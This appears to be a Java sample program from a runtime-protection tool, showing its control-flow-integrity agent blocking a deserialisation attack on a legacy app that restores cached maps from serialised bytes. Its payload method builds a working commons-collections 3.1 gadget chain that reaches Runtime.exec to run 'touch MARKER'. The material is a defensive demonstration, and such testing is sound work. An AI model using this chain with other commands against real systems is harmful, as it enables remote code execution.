package dev.preempt.samples.cfi;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.File;
import java.io.ObjectInputStream;
import java.io.ObjectOutputStream;
import java.lang.reflect.Field;
import java.util.HashMap;
import java.util.Map;
import org.apache.commons.collections.Transformer;
import org.apache.commons.collections.functors.ChainedTransformer;
import org.apache.commons.collections.functors.ConstantTransformer;
import org.apache.commons.collections.functors.InvokerTransformer;
import org.apache.commons.collections.keyvalue.TiedMapEntry;
import org.apache.commons.collections.map.LazyMap;

/**
 * CFI against a deserialisation gadget chain. A legacy app (Java 8 bytecode) that runs a tool with
 * {@code Runtime.exec}, caches values in a commons-collections 3.1 {@code LazyMap} whose transformers call
 * methods reflectively, and keeps its cache as Java serialisation bytes. {@code benign KEY...} does just
 * that; {@code attack MARKER} also restores bytes an attacker sent: the well-known chain of the same
 * library's classes that, when the {@code HashMap} is rebuilt, reaches {@code Runtime.exec("touch MARKER")}.
 * It prints one line per step ({@code tool=}, {@code cached=}, {@code attack=}, {@code marker=},
 * {@code tool again=}, {@code done}).
 *
 * <pre>
 * CP=preempt-samples.jar:lib/commons-collections-3.1.jar   # samples/target after ./preempt build
 * java -cp $CP dev.preempt.samples.cfi.GadgetCache attack /tmp/marker      # stock: marker=true
 * java -javaagent:preempt-agent.jar=cfi=learn,policy=p.json -cp $CP dev.preempt.samples.cfi.GadgetCache benign alpha beta
 * java -javaagent:preempt-agent.jar=cfi=enforce,policy=p.json -cp $CP dev.preempt.samples.cfi.GadgetCache attack /tmp/marker
 *                              # attack=refused dev.preempt.runtime.cfi.CfiViolation, marker=false, tool again=0
 * </pre>
 * {@code ./preempt demo cfi} runs these steps and checks each outcome.
 */
public final class GadgetCache {
    public static void main(String[] args) throws Exception {
        System.out.println("tool=" + runTool());
        for (int i = 1; i < args.length && args[0].equals("benign"); i++) {
            System.out.println("cached=" + handle(save(cache(args[i]))));
        }
        if (args[0].equals("attack")) {
            System.out.println("cached=" + handle(save(cache("warm"))));
            try {
                handle(payload(args[1]));
                System.out.println("attack=not refused");
            } catch (Exception e) { // a SecurityException from preempt, an InvalidClassException from a serial filter
                System.out.println("attack=refused " + e.getClass().getName());
            }
            Thread.sleep(300); // a process the chain started would have touched the marker by now
            System.out.println("marker=" + new File(args[1]).exists());
            System.out.println("tool again=" + runTool());
        }
        System.out.println("done");
    }

    /** The app's own, legitimate use of Runtime.exec. */
    static int runTool() throws Exception {
        return Runtime.getRuntime().exec(new String[] {"true"}).waitFor();
    }

    /** A LazyMap that derives values by calling methods reflectively. */
    static Map<Object, Object> cache(String key) {
        Transformer t = new ChainedTransformer(new Transformer[] {
            new ConstantTransformer(key), new InvokerTransformer("toUpperCase", new Class<?>[0], new Object[0])});
        Map<Object, Object> cache = new HashMap<Object, Object>();
        cache.put(new TiedMapEntry(LazyMap.decorate(new HashMap<Object, Object>(), t), key), "entry");
        return cache;
    }

    /** Where the app receives a saved cache (from a file, a peer, a request) and restores it. */
    static Object handle(byte[] request) throws Exception {
        Map<?, ?> back = (Map<?, ?>) load(request);
        return back.keySet().iterator().next();
    }

    static byte[] save(Object o) throws Exception {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        ObjectOutputStream out = new ObjectOutputStream(bytes);
        out.writeObject(o);
        out.close();
        return bytes.toByteArray();
    }

    static Object load(byte[] bytes) throws Exception {
        ObjectInputStream in = new ObjectInputStream(new ByteArrayInputStream(bytes));
        try {
            return in.readObject();
        } finally {
            in.close();
        }
    }

    /** What an attacker sends: the well-known shape of a commons-collections chain, built here so the sample is self-contained. */
    @SuppressWarnings("unchecked") // commons-collections 3.1 predates generics: LazyMap.decorate returns a raw Map
    static byte[] payload(String marker) throws Exception {
        Transformer[] chain = {
            new ConstantTransformer(Runtime.class),
            new InvokerTransformer("getMethod", new Class<?>[] {String.class, Class[].class}, new Object[] {"getRuntime", new Class<?>[0]}),
            new InvokerTransformer("invoke", new Class<?>[] {Object.class, Object[].class}, new Object[] {null, new Object[0]}),
            new InvokerTransformer("exec", new Class<?>[] {String.class}, new Object[] {"touch " + marker}),
        };
        ChainedTransformer chained = new ChainedTransformer(new Transformer[] {new ConstantTransformer("harmless")});
        Map<Object, Object> lazy = LazyMap.decorate(new HashMap<Object, Object>(), chained);
        Map<Object, Object> outer = new HashMap<Object, Object>();
        outer.put(new TiedMapEntry(lazy, "k"), "v");
        lazy.clear();
        Field f = ChainedTransformer.class.getDeclaredField("iTransformers");
        f.setAccessible(true);
        f.set(chained, chain);
        return save(outer);
    }
}
